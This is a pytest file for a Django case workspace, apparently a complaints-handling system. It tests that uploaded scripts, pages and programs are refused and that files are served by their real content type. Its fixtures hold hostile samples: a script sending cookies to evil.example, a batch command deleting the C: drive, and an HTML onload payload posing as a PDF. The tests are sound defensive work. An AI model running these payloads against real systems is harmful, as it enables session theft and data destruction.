"""Uploads in the workspace (reply attachments, signed scans): named and served by their content;
scripts, pages and programs are refused, and the typed reply is kept."""

import re

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from cases.models import CaseState, Document
from tests.cases.conftest import in_schema, load_case
from tests.filestore.samples import image_bytes
from tests.workspace.conftest import case_url

REPLY = "经调查核实，物业公司多收的停车费已责令退还，并对其进行了约谈。"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("x.js", b"new Image().src='https://evil.example/?c='+document.cookie;"),
        ("run.bat", b"@echo off\r\nrd /s /q C:\\\r\n"),
        ("a.svg", "这只是文字。".encode()),
        ("工具.exe", b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(100)),
        ("核查报告.pdf", "<html><body onload=alert(1)>核查报告</body></html>".encode()),
    ],
)
def test_a_reply_with_a_script_page_or_program_is_refused_and_keeps_the_text(
    host_client, agency_a, handler_a, accepted, name, data
):
    response = host_client(agency_a, handler_a).post(
        case_url(accepted, "reply"),
        {"reply-opinion": "support", "reply-text": REPLY, "reply-files": [SimpleUploadedFile(name, data)]},
    )
    page = response.content.decode()
    assert response.status_code == 400 and REPLY in page
    assert f"“{name}”" in page and "允许上传" in page
    assert load_case(accepted.case_uuid).state == CaseState.ACCEPTED


def test_the_refusal_is_in_english_for_english_staff(host_client, agency_a, handler_a, accepted):
    client = host_client(agency_a, handler_a)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.post(
        case_url(accepted, "reply"),
        {
            "reply-opinion": "support",
            "reply-text": REPLY,
            "reply-files": [SimpleUploadedFile("x.js", b"x=1")],
        },
    )
    assert response.status_code == 400
    assert "Allowed: PDF, images (JPEG, PNG, GIF, WebP)" in response.content.decode()


def test_a_signed_scan_named_html_is_stored_and_served_as_the_jpeg_it_is(
    host_client, agency_a, handler_a, accepted
):
    original = in_schema(agency_a, Document, case_id=accepted.case_uuid, kind="acceptance_notice")[0]
    client = host_client(agency_a, handler_a)
    data = image_bytes("JPEG")
    response = client.post(
        case_url(accepted, "upload_scan"),
        {
            "upload_scan-document": str(original.pk),
            "upload_scan-file": SimpleUploadedFile("签章 扫描件.html", data, content_type="text/html"),
        },
    )
    assert response.status_code == 302
    [scan] = [
        d
        for d in in_schema(agency_a, Document, case_id=accepted.case_uuid, kind="acceptance_notice")
        if not d.generated
    ]
    assert scan.file_name == "签章 扫描件.jpg" and scan.content_type == "image/jpeg"
    assert scan.storage_key.endswith("/签章_扫描件.jpg")

    page = client.get(case_url(accepted)).content.decode()
    links = re.findall(r'<a href="(/files/[^"]+)">', page)
    served = [client.get(link) for link in links]
    assert {r["Content-Type"] for r in served} == {"application/pdf", "image/jpeg"}
    [jpeg] = [r for r in served if r["Content-Type"] == "image/jpeg"]
    assert b"".join(jpeg.streaming_content) == data
    assert jpeg["Content-Disposition"] == (
        'attachment; filename="file.jpg"; '
        "filename*=utf-8''%E7%AD%BE%E7%AB%A0%20%E6%89%AB%E6%8F%8F%E4%BB%B6.jpg"
    )
    assert all(r["X-Content-Type-Options"] == "nosniff" for r in served)
